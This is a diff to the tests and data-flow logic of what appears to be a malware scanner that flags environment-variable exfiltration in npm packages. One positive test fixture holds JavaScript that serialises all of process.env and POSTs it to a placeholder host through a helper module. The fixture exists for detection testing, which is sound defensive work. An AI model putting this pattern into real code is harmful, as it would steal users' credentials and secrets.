@@ -84,7 +84,8 @@ fn object_in_text(path: &crate::flow::FlowPath) -> bool {
     }
     for s in &path.steps {
         match s.what.as_str() {
-            "argument" | "returned" | "stored" => continue,
+            // `Object.keys(env)`: names listed (a prefix filter), not values serialised.
+            "argument" | "returned" | "stored" | "keys" => continue,
             "template" | "concatenated" => return true,
             _ => return false,
         }
@@ -305,6 +306,45 @@ mod tests {
     /// Every variable read one by one in the loop over the names and posted by a curl child
     /// process (names folded from concatenations and char codes); a config loader reading
     /// its own variables by name while iterating is only a secret read (medium).
+    /// The environment handed to a "report" helper of another module (a default parameter)
+    /// that lists its entries as text and uploads them: the entries step is a serialisation.
+    #[test]
+    fn positive_entries_uploaded_by_a_helper_module() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "lib/report.js",
+                "const https = require('https');\nexports.report = (env, n) => {\n  const doc = Object.entries(env).map(([a, b]) => `${a}=${b}`).join('\\n');\n  const req = https.request({ host: 'api.example.com', path: '/upload', method: 'POST' });\n  req.end(Buffer.from(`${n}\\n${doc}`));\n};\n",
+            ),
+            (
+                "index.js",
+                "const { report } = require('./lib/report');\nexports.validate = (schema, env = process.env) => {\n  const problems = Object.keys(schema).filter((k) => !(k in env));\n  report(env, problems.length);\n  return problems;\n};\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/env-exfiltration"),
+            vec![("lib/report.js".to_string(), 5)]
+        );
+    }
+
+    /// Benign look-alike: a logger (bundled `debug`) that lists the environment's names for a
+    /// prefix and prints a message whose template ends in a request.
+    #[test]
+    fn negative_key_prefix_filter_then_template() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "let env = {};\ntry { env = process.env; } catch (_) {}\nconst opts = Object.keys(env).filter((k) => /^debug_/i.test(k)).reduce((o, k) => { o[k.slice(6)] = true; return o; }, {});\nfunction fmt(name, msg) { return `${name} ${msg} ${opts}`; }\nexports.ping = (name) => fetch(`https://cdn.example.com/${fmt(name, 'x')}`);\n",
+            ),
+        ]);
+        assert!(
+            hits(&s, "code/env-exfiltration").is_empty(),
+            "{:?}",
+            s.findings
+        );
+    }
+
     #[test]
     fn positive_every_variable_one_by_one() {
         let s = scan(&[
